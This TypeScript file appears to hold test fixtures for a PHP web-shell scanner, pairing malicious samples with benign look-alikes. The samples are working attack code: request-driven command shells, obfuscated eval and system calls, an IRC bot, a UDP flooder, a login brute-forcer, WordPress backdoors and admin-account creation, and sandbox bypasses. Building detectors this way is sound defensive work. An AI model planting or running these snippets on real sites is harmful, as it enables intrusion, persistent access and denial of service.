import { base64, php } from './spelling.ts'
import type { Technique } from './technique.ts'

/** What attackers leave in practice: bots, droppers, doors for later, and shells of old versions of PHP. */
export const WILD: readonly Technique[] = [
  {
    name: 'variables that nothing sets',
    severity: 'suspicious',
    samples: [
      '<? system($cmd); ?>',
      php(`if ($cmd != '') { echo '<xmp>'; passthru($cmd); echo '</xmp>'; }`),
      php(`function go($x) { system($x); }\ngo("$command 2>&1");`),
    ],
    honest: [
      php(`$cmd = 'uptime'; system($cmd);`),
      php(`require 'settings.php'; exec($command);`),
      php(`function run($command) { return exec($command); }`),
      php(
        `spl_autoload_register(function ($class) { $file = __DIR__ . "/$class.php"; if (is_file($file)) require $file; });`,
      ),
    ],
  },
  {
    name: 'names in pieces',
    severity: 'confirmed',
    samples: [
      php(`$q = 'a'; $q .= 'ss'; $q .= 'ert'; @$q($_POST['x']);`),
      php(`$l = array('tem', 'sys'); $f = $l[1] . $l[0]; $f($_GET['c']);`),
      php(`$f = ${[115, 121, 115, 116, 101, 109].map(code => `chr(${code + 7} - 7)`).join('.')}; $f($_GET['c']);`),
      php(`$f = implode('', array_map('chr', array(115, 121, 115, 116, 101, 109))); $f($_GET['c']);`),
      php(`$f = strtr('qbpgrz', 'qbpgrz', 'system'); $f($_GET['c']);`),
      php(`$GLOBALS['f'] = 'sys' . 'tem'; $GLOBALS['f']($_GET['c']);`),
      php(`$x = array('run' => system($_POST['c']));`),
      php(`switch ($_POST['a']) { case 'x': system($_POST['c']); }`),
    ],
    honest: [
      php(`$sql = 'select'; $sql .= ' *'; $sql .= ' from t'; $db->query($sql);`),
      php(`$colour = $c[1] . $c[1] . $c[2] . $c[2]; $sum = 64 * 2; echo $colour . $sum;`),
      php(`$list = array_map('strtolower', array('A', 'B')); echo implode(', ', $list);`),
    ],
  },
  {
    name: 'code for a moment',
    severity: 'suspicious',
    samples: [
      php(`$t = tempnam('/tmp', 'a'); file_put_contents($t, '<?php ' . $_POST['z']); include $t; unlink($t);`),
      php(`$h = fopen('cache.tmp', 'w'); fwrite($h, base64_decode($_REQUEST['d'])); fclose($h); require('cache.tmp');`),
      php(`$f = fopen(__FILE__, 'r'); $t = stream_get_contents($f); eval(substr($t, 99));`),
      php(`file_put_contents(__FILE__, str_replace('//', stripslashes($_REQUEST['c']), file_get_contents(__FILE__)));`),
      php(`include($_FILES['x']['tmp_name']);`),
    ],
    honest: [
      php(`$t = tempnam(sys_get_temp_dir(), 'zip'); file_put_contents($t, $body); $zip->open($t); unlink($t);`),
      php(`$version = get_file_data(__FILE__, array('Version' => 'Version')); require __DIR__ . '/main.php';`),
    ],
  },
  {
    name: 'bots and floods',
    severity: 'suspicious',
    samples: [
      php(
        `$s = fsockopen('irc.example.net', 6667); fwrite($s, "NICK b\\r\\n"); while ($l = fgets($s)) { if (strpos($l, 'PING') === 0) fwrite($s, "PONG x\\r\\n"); $c = explode(' ', $l); fwrite($s, "PRIVMSG #c :" . shell_exec($c[4])); }`,
      ),
      php(
        `while (1) { $f = fsockopen('udp://' . $_GET['host'], rand(1, 65000)); fwrite($f, str_repeat('X', 65000)); }`,
      ),
      php(
        `foreach (explode("\\n", $_POST['l']) as $p) { $c = curl_init('http://localhost:2082'); curl_setopt($c, CURLOPT_USERPWD, "a:$p"); curl_exec($c); }`,
      ),
    ],
    honest: [
      php(
        `$s = fsockopen('tls://smtp.example.com', 465); fwrite($s, "EHLO x\\r\\n"); while ($l = fgets($s)) { echo $l; }`,
      ),
      php(`while (true) { $job = $queue->next(); if (!$job) break; sleep(rand(1, 3)); }`),
    ],
  },
  {
    name: 'doors for later',
    severity: 'suspicious',
    samples: [
      php(
        `add_action('init', 'a'); function a() { if (md5($_GET['k']) == '5f4dcc3b5aa765d61d8327deb882cf99') { wp_set_auth_cookie(1); } }`,
      ),
      php(
        `require('wp-blog-header.php'); $id = wp_create_user('sys', 'x'); $u = new WP_User($id); $u->set_role('administrator');`,
      ),
      php(`foreach (scandir('.') as $d) if (is_dir($d)) file_put_contents("$d/i.html", '<h1>Hacked by someone</h1>');`),
      php(`file_put_contents('x.php', base64_decode('${base64('<?php eval($_POST[1]); ?>')}'));`),
    ],
    honest: [
      php(`if (hash_equals(get_option('token'), md5($_GET['k']))) do_action('ping');`),
      php(`$hello = 'Hello'; file_put_contents($cache . '/index.html', $hello);`),
    ],
  },
  {
    name: 'ways around',
    severity: 'suspicious',
    samples: [
      php(`putenv('LD_PRELOAD=/tmp/x.so'); mail('', '', '');`),
      php(`$ffi = FFI::cdef("int system(const char *c);"); $ffi->system($_GET['c']);`),
      php(`usort(...$_GET);`),
      php(`eval(next(getallheaders()));`),
      php(
        `$x = new XSLTProcessor; $x->registerPHPFunctions(); $x->importStylesheet(simplexml_load_string($_POST['s']));`,
      ),
      php(`iterator_apply(new ArrayIterator(array(1)), 'assert', array($_POST['x']));`),
      php(`@extract(exif_read_data('photo.jpg')); eval($Comment);`),
    ],
    honest: [
      php(`putenv('TZ=UTC'); setlocale(LC_ALL, 'C');`),
      php(`usort($rows, fn ($a, $b) => $a <=> $b); $headers = getallheaders(); echo $headers['Accept'];`),
      php(`$exif = exif_read_data($file); echo esc_html($exif['Model']);`),
    ],
  },
]
